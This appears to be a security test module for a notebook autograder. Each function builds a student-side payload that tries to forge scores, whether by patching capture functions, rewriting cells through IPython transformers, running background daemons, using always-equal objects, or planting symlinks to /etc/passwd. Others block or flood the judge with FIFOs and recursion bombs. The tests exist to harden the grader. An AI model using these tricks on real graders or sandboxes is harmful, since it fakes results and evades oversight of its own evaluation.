"""Category 1: forging scores from inside the kernel (toy assignment).

The student's answers are wrong (``square`` and ``cube`` return 0), so an honest grader gives
0 points: test_square and test_cube fail, and the training cell's history [0, 0, 0] fails the
hidden ``history[-1] == (EPOCHS - 1) ** 2``. Each attack then tries to make the capture
report what a correct notebook would have produced.
"""

from __future__ import annotations

import json

from . import TOY_NB, attack, one, probe_code, toy

# Forged records, computed from the capture plan the sandbox can read (the hidden tests'
# inputs are in it): what a correct square/cube would return. Defines _forge_records(grade_id,
# names) -> {"grade_id":..., "names":...} and _forge_write(grade_id, names, ns=None).
FORGER = r'''
import json as _fj, os as _fo
from pathlib import Path as _FP
def _forge_records(grade_id, names):
    plan = _fj.loads(_FP(_fo.environ["RESNET_KIT_CAPTURE_PLAN"]).read_text())
    truth = {"square": lambda x: x * x, "cube": lambda x: x ** 3}
    rec = {}
    for n in names:
        if n in truth:
            rec[n] = {"kind": "function", "calls": [
                {"outcome": "value", "value": truth[n](*c["args"], **c["kwargs"])}
                for c in plan.get(n, [])]}
        elif n == "EPOCHS":
            rec[n] = {"kind": "value", "value": 3}
        elif n == "history":
            rec[n] = {"kind": "value", "value": [0, 1, 4]}
        else:
            rec[n] = {"kind": "missing"}
    return {"grade_id": grade_id, "names": rec}
def _forge_write(grade_id, names, ns=None):
    folder = _FP(_fo.environ["RESNET_KIT_CAPTURE_DIR"])
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{grade_id}.json").write_text(_fj.dumps(_forge_records(grade_id, names)))
'''


@attack("forge_capture_patch", "forge", 0, fast=True,
        expect="capture() is student-reachable: a replaced capture() writes whatever it likes")
def forge_capture_patch(ctx):
    """Replace resnet_kit.capture.capture with a forger (wrong answers, forged values)."""
    return one(ctx, "forge_capture_patch", toy(ctx, before=FORGER + (
        "import resnet_kit.capture\nresnet_kit.capture.capture = _forge_write\n")))


@attack("forge_record_call_patch", "forge", 0)
def forge_record_call_patch(ctx):
    """Patch capture.record_call so every planned call 'returned' the right value."""
    return one(ctx, "forge_record_call_patch", toy(ctx, before=(
        "import resnet_kit.capture as _c\n"
        "def _rc(fn, call, **kw):\n"
        "    name = getattr(fn, '__name__', '')\n"
        "    x = call['args'][0]\n"
        "    return {'outcome': 'value', 'value': x * x if name == 'square' else x ** 3}\n"
        "_c.record_call = _rc\n"
        "_orig_rv = _c.record_value\n"
        "def _rv(value, calls, *a, **kw):\n"
        "    if isinstance(value, list) and value == [0, 0, 0]:\n"
        "        return {'kind': 'value', 'value': [0, 1, 4]}\n"
        "    return _orig_rv(value, calls, *a, **kw)\n"
        "_c.record_value = _rv\n")))


@attack("forge_sys_modules_stub", "forge", 0)
def forge_sys_modules_stub(ctx):
    """Stub sys.modules['resnet_kit.capture'] (and the package attribute) with a forger."""
    return one(ctx, "forge_sys_modules_stub", toy(ctx, before=FORGER + (
        "import sys, types, resnet_kit\n"
        "_stub = types.ModuleType('resnet_kit.capture')\n"
        "_stub.capture = _forge_write\n"
        "sys.modules['resnet_kit.capture'] = _stub\n"
        "resnet_kit.capture = _stub\n")))


@attack("forge_input_transformer", "forge", 0, fast=True)
def forge_input_transformer(ctx):
    """An IPython input transformer rewrites every later capture cell into a forger call."""
    return one(ctx, "forge_input_transformer", toy(ctx, before=FORGER + (
        "def _rewrite(lines):\n"
        "    return [l.replace('_grader_capture.capture(', '_forge_write(') for l in lines]\n"
        "get_ipython().input_transformers_post.append(_rewrite)\n")))


@attack("forge_ast_transformer", "forge", 0)
def forge_ast_transformer(ctx):
    """An AST transformer wraps later cells in try/except and swaps the capture call."""
    return one(ctx, "forge_ast_transformer", toy(ctx, before=FORGER + (
        "import ast\n"
        "class _Swap(ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n"
        "        self.generic_visit(node)\n"
        "        f = node.func\n"
        "        if isinstance(f, ast.Attribute) and f.attr == 'capture':\n"
        "            node.func = ast.copy_location(ast.Name('_forge_write', ast.Load()), f)\n"
        "        return node\n"
        "    def visit_Module(self, node):\n"
        "        self.generic_visit(node)\n"
        "        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None,\n"
        "                                    body=[ast.Pass()])\n"
        "        wrapped = ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],\n"
        "                          finalbody=[])\n"
        "        node.body = [wrapped]\n"
        "        return ast.fix_missing_locations(node)\n"
        "get_ipython().ast_transformers.append(_Swap())\n")))


@attack("forge_json_dumps_patch", "forge", 0)
def forge_json_dumps_patch(ctx):
    """Patch json.dumps (used by capture) to substitute forged records."""
    return one(ctx, "forge_json_dumps_patch", toy(ctx, before=FORGER + (
        "import json\n"
        "_real_dumps = json.dumps\n"
        "def _dumps(obj, *a, **kw):\n"
        "    if isinstance(obj, dict) and 'grade_id' in obj and 'names' in obj:\n"
        "        obj = _forge_records(obj['grade_id'], list(obj['names']))\n"
        "    return _real_dumps(obj, *a, **kw)\n"
        "json.dumps = _dumps\n")))


@attack("forge_post_run_hook", "forge", 0)
def forge_post_run_hook(ctx):
    """A post_run_cell hook overwrites each capture file right after the capture wrote it."""
    return one(ctx, "forge_post_run_hook", toy(ctx, before=FORGER + (
        "import re\n"
        "def _after(result):\n"
        "    m = re.search(r\"capture\\((['\\\"])(\\w+)\\1, (\\[.*?\\])\", result.info.raw_cell or '')\n"
        "    if m:\n"
        "        _forge_write(m.group(2), eval(m.group(3)))\n"
        "get_ipython().events.register('post_run_cell', _after)\n")))


@attack("forge_capture_dir_readonly", "forge", 0)
def forge_capture_dir_readonly(ctx):
    """Write forged JSON straight into the capture dir, then make it read-only so the real
    capture cannot overwrite it."""
    return one(ctx, "forge_capture_dir_readonly", toy(ctx, before=FORGER + (
        "for gid, names in [('test_square', ['square']), ('test_cube', ['cube']),\n"
        "                   ('test_training', ['EPOCHS', 'history'])]:\n"
        "    _forge_write(gid, names)\n"
        "_fo.chmod(_fo.environ['RESNET_KIT_CAPTURE_DIR'], 0o555)\n")))


@attack("forge_daemon_rewriter", "forge", 0,
        expect="a background process keeps rewriting the capture files after each capture")
def forge_daemon_rewriter(ctx):
    """A setsid daemon rewrites the capture files every few ms until the sandbox ends."""
    forged = {}
    for gid, names in [("test_square", ["square"]), ("test_cube", ["cube"]),
                       ("test_training", ["EPOCHS", "history"])]:
        forged[gid] = names
    daemon = FORGER + (
        "import time, os\n"
        f"_targets = {json.dumps(forged)}\n"
        "end = time.time() + 600\n"
        "while time.time() < end:\n"
        "    for gid, names in _targets.items():\n"
        "        try:\n"
        "            _forge_write(gid, names)\n"
        "        except Exception:\n"
        "            pass\n"
        "    time.sleep(0.005)\n")
    return one(ctx, "forge_daemon_rewriter", toy(ctx, before=(
        "import os, sys\n"
        f"_code = {daemon!r}\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', _code, {ctx.token!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n")))


@attack("forge_always_equal", "forge", 0,
        expect="the classic nbgrader hack (an object equal to everything) must not pass")
def forge_always_equal(ctx):
    """square/cube return an object whose __eq__ is always True (beats plain nbgrader)."""
    eq = ("class _Yes:\n    def __eq__(self, other):\n        return True\n"
          "    def __ne__(self, other):\n        return False\n    __hash__ = object.__hash__\n")
    return one(ctx, "forge_always_equal", toy(
        ctx, before=eq, square="def square(x):\n    return _Yes()",
        cube="def cube(x):\n    return _Yes()"))


@attack("forge_int_subclass", "forge", 0)
def forge_int_subclass(ctx):
    """square returns an int subclass equal to everything (passes the 'plain value' test)."""
    eq = ("class _Int(int):\n    def __eq__(self, other):\n        return True\n"
          "    __hash__ = int.__hash__\n")
    return one(ctx, "forge_int_subclass", toy(
        ctx, before=eq, square="def square(x):\n    return _Int(0)",
        cube="def cube(x):\n    return _Int(0)"))


@attack("forge_epochs_and_history", "forge", 1,
        expect="toy has no GRADER_VALUES: EPOCHS=1 in an answer cell is what nbgrader would "
               "also honour (fair 1); the forged history must not add more")
def forge_epochs_and_history(ctx):
    """EPOCHS=1 set in an answer cell (square still wrong): history == [0] passes test_training."""
    return one(ctx, "forge_epochs_and_history", toy(ctx, before="EPOCHS = 1\n"))


@attack("forge_namespace_injection", "forge", 0,
        expect="extra names in a record (__builtins__, len, AssertionError) reach the judge's "
               "namespace; they must not turn a failing test into a pass")
def forge_namespace_injection(ctx):
    """Records carry names the tests never use: __builtins__, len, AssertionError, checks."""
    return one(ctx, "forge_namespace_injection", toy(ctx, before=(
        "import json, os, resnet_kit.capture as _c\n"
        "_real = _c.capture\n"
        "def _inject(grade_id, names, ns):\n"
        "    _real(grade_id, names, ns)\n"
        "    path = os.path.join(os.environ['RESNET_KIT_CAPTURE_DIR'], grade_id + '.json')\n"
        "    data = json.load(open(path))\n"
        "    data['names'].update({\n"
        "        '__builtins__': {'kind': 'module', 'name': 'math'},\n"
        "        'len': {'kind': 'module', 'name': 'numpy'},\n"
        "        'AssertionError': {'kind': 'value', 'value': 0},\n"
        "        'checks': {'kind': 'module', 'name': 'resnet_kit.selfcheck'},\n"
        "        'EPOCHS': {'kind': 'value', 'value': 1},\n"
        "    })\n"
        "    json.dump(data, open(path, 'w'))\n"
        "_c.capture = _inject\n")))


@attack("forge_unknown_outcomes", "forge", 0,
        expect="outcomes the judge does not expect (raised SystemExit, bogus kinds) score 0")
def forge_unknown_outcomes(ctx):
    """Forged call outcomes: raised KeyboardInterrupt/SystemExit/StopIteration, 'returned'
    types named like ints, unknown outcomes, and a 'model' kind for a plain function."""
    return one(ctx, "forge_unknown_outcomes", toy(ctx, before=(
        "import json, os, resnet_kit.capture as _c\n"
        "def _weird(grade_id, names, ns):\n"
        "    folder = os.environ['RESNET_KIT_CAPTURE_DIR']\n"
        "    os.makedirs(folder, exist_ok=True)\n"
        "    rec = {\n"
        "        'square': {'kind': 'function', 'calls': [\n"
        "            {'outcome': 'raised', 'type': 'KeyboardInterrupt', 'message': 'x'},\n"
        "            {'outcome': 'returned', 'type': 'int'}]},\n"
        "        'cube': {'kind': 'function', 'calls': [\n"
        "            {'outcome': 'raised', 'type': 'SystemExit', 'message': '0'},\n"
        "            {'outcome': 'bogus'}]},\n"
        "        'EPOCHS': {'kind': 'value', 'value': 0},\n"
        "        'history': {'kind': 'unsupported', 'message': 'x'},\n"
        "    }\n"
        "    json.dump({'grade_id': grade_id, 'names': {n: rec.get(n, {'kind': 'missing'}) for n in names}},\n"
        "              open(os.path.join(folder, grade_id + '.json'), 'w'))\n"
        "_c.capture = _weird\n")))


@attack("forge_huge_record", "forge", 0)
def forge_huge_record(ctx):
    """A forged capture record of 40 MiB (over the copy-out limit) and one of 31 MiB of
    nested lists, each claiming the right values first."""
    return one(ctx, "forge_huge_record", toy(ctx, before=FORGER + (
        "import json\n"
        "def _huge(grade_id, names, ns):\n"
        "    folder = _FP(_fo.environ['RESNET_KIT_CAPTURE_DIR']); folder.mkdir(parents=True, exist_ok=True)\n"
        "    rec = _forge_records(grade_id, names)\n"
        "    pad = 'x' * (40 * 2**20) if grade_id == 'test_square' else None\n"
        "    if pad is None:\n"
        "        rec['pad'] = [[0] * 1000] * 15000\n"
        "    else:\n"
        "        rec['pad'] = pad\n"
        "    (folder / f'{grade_id}.json').write_text(json.dumps(rec))\n"
        "import resnet_kit.capture\nresnet_kit.capture.capture = _huge\n")))


@attack("forge_deep_json", "forge", 0)
def forge_deep_json(ctx):
    """Capture records nested 200,000 levels deep (a recursion bomb for the judge's JSON)."""
    return one(ctx, "forge_deep_json", toy(ctx, before=(
        "import os, resnet_kit.capture as _c\n"
        "def _deep(grade_id, names, ns):\n"
        "    folder = os.environ['RESNET_KIT_CAPTURE_DIR']; os.makedirs(folder, exist_ok=True)\n"
        "    body = '[' * 200000 + ']' * 200000\n"
        "    text = '{\"grade_id\": \"%s\", \"names\": {\"square\": %s}}' % (grade_id, body)\n"
        "    open(os.path.join(folder, grade_id + '.json'), 'w').write(text)\n"
        "_c.capture = _deep\n")))


@attack("forge_capture_links", "forge", 0,
        expect="symlinks/hardlinks/FIFOs in the capture dir are never followed or read")
def forge_capture_links(ctx):
    """Capture files replaced by a symlink to /etc/passwd, a symlink to the grader's
    thresholds.json (host path), a hardlink, a FIFO; the capture folder of a second notebook
    name as a symlink to the host's reports."""
    thresholds = ctx.repo_root / "autograder" / "resnets" / "thresholds.json"
    return one(ctx, "forge_capture_links", toy(ctx, before=FORGER + probe_code(
        "import os, resnet_kit.capture as _c\n"
        "def _links(grade_id, names, ns):\n"
        "    folder = os.environ['RESNET_KIT_CAPTURE_DIR']; os.makedirs(folder, exist_ok=True)\n"
        "    path = os.path.join(folder, grade_id + '.json')\n"
        "    if os.path.lexists(path): os.unlink(path)\n"
        "    if grade_id == 'test_square':\n"
        "        _try('info:symlink-passwd', lambda: os.symlink('/etc/passwd', path))\n"
        "    elif grade_id == 'test_cube':\n"
        f"        _try('info:symlink-thresholds', lambda: os.symlink({str(thresholds)!r}, path))\n"
        "        other = os.path.join(folder, 'forged.json')\n"
        "        _forge_write('forged', names)\n"
        "        _try('info:hardlink', lambda: os.link(os.path.join(folder, 'forged.json'), path + '.h'))\n"
        "    else:\n"
        "        _try('info:fifo', lambda: os.mkfifo(path))\n"
        "    parent = os.path.dirname(folder)\n"
        f"    _try('info:dir-symlink', lambda: os.symlink({str(ctx.reports)!r}, os.path.join(parent, 'evil')))\n"
        "_c.capture = _links\n")))


@attack("forge_journal_and_out", "forge", 0,
        expect="forged journal lines and a forged executed notebook change neither scores "
               "nor flags")
def forge_journal_and_out(ctx):
    """Forged journal lines ("all graded cells ran") and a daemon that replaces the executed
    notebook (work/out) after the executor wrote it, with a cell error removed and fake
    'passed' outputs in every cell."""
    daemon = (
        "import json, os, time\n"
        "out = os.path.join(os.environ.get('HOME', '/sandbox'), 'out', 'squares.ipynb')\n"
        "end = time.time() + 600\n"
        "seen = None\n"
        "while time.time() < end:\n"
        "    try:\n"
        "        st = os.stat(out)\n"
        "        if (st.st_mtime_ns, st.st_size) != seen:\n"
        "            nb = json.load(open(out))\n"
        "            for c in nb['cells']:\n"
        "                if c.get('cell_type') == 'code':\n"
        "                    c['outputs'] = [{'output_type': 'stream', 'name': 'stdout',\n"
        "                                     'text': 'FORGED-OUTPUT: all tests passed, 4/4'}]\n"
        "            tmp = out + '.tmp'\n"
        "            json.dump(nb, open(tmp, 'w'))\n"
        "            os.replace(tmp, out)\n"
        "            st = os.stat(out); seen = (st.st_mtime_ns, st.st_size)\n"
        "    except Exception:\n"
        "        pass\n"
        "    time.sleep(0.001)\n")
    journal = (
        "import json, os\n"
        "j = os.path.join(os.environ.get('HOME', '/sandbox'), 'journal')\n"
        "os.makedirs(j, exist_ok=True)\n"
        "with open(os.path.join(j, 'squares.jsonl'), 'a') as fh:\n"
        "    for i, gid in enumerate(['test_square', 'test_cube', 'test_training']):\n"
        "        fh.write(json.dumps({'index': i, 'event': 'ran', 'seconds': 0.1, 'grade_id': gid,\n"
        "                             'grade': True, 'points': 99, 'errors': [], 'stderr': False}) + '\\n')\n"
        "import sys\n"
        f"_code = {daemon!r}\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', _code, {ctx.token!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n")
    return one(ctx, "forge_journal_and_out", toy(
        ctx, before=journal, cells=[("test_training", "raise RuntimeError('a real error')")]))


@attack("forge_fifo_out_notebook", "forge", 0,
        expect="a FIFO where the executor writes the executed notebook blocks the executor: "
               "the job only ends at the wall-clock limit (a DoS of the batch)")
def forge_fifo_out_notebook(ctx):
    """Make work/out/squares.ipynb a FIFO with no reader: the executor's final write blocks."""
    return one(ctx, "forge_fifo_out_notebook", toy(ctx, before=(
        "import os\n"
        "_o = os.path.join(os.environ.get('HOME', '/sandbox'), 'out')\n"
        "os.makedirs(_o, exist_ok=True)\n"
        "os.mkfifo(os.path.join(_o, 'squares.ipynb'))\n")))


@attack("forge_judge_dos_models", "forge", 0,
        expect="the judge rebuilds every model named in a record, used or not, with no "
               "per-test time limit: a record can keep it busy until the student's wall clock")
def forge_judge_dos_models(ctx):
    """Each capture record carries 40 extra 'model' names (unused by the test), each a
    valid, allow-listed 900-layer Dense stack the judge rebuilds one after the other."""
    return one(ctx, "forge_judge_dos_models", toy(ctx, before=DOS_MODELS))


DOS_MODELS = r'''
import json, os, resnet_kit.capture as _c
def _layers(n, units=64):
    L = [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, units], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_layer"}, "registered_name": None, "name": "input_layer", "inbound_nodes": []}]
    prev = "input_layer"
    for i in range(n):
        name = f"d{i}"
        L.append({"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": "relu", "use_bias": True}, "registered_name": None, "name": name,
                  "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [None, units], "dtype": "float32", "keras_history": [prev, 0, 0]}}], "kwargs": {}}]})
        prev = name
    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "m", "trainable": True, "layers": L, "input_layers": [["input_layer", 0, 0]], "output_layers": [[prev, 0, 0]]}}
_BIG = _layers(900)
_real = _c.capture
def _dos(grade_id, names, ns):
    _real(grade_id, names, ns)
    path = os.path.join(os.environ['RESNET_KIT_CAPTURE_DIR'], grade_id + '.json')
    data = json.load(open(path))
    for i in range(40):
        data['names'][f'extra_model_{i}'] = {'kind': 'model', 'config': _BIG}
    json.dump(data, open(path, 'w'))
_c.capture = _dos
'''
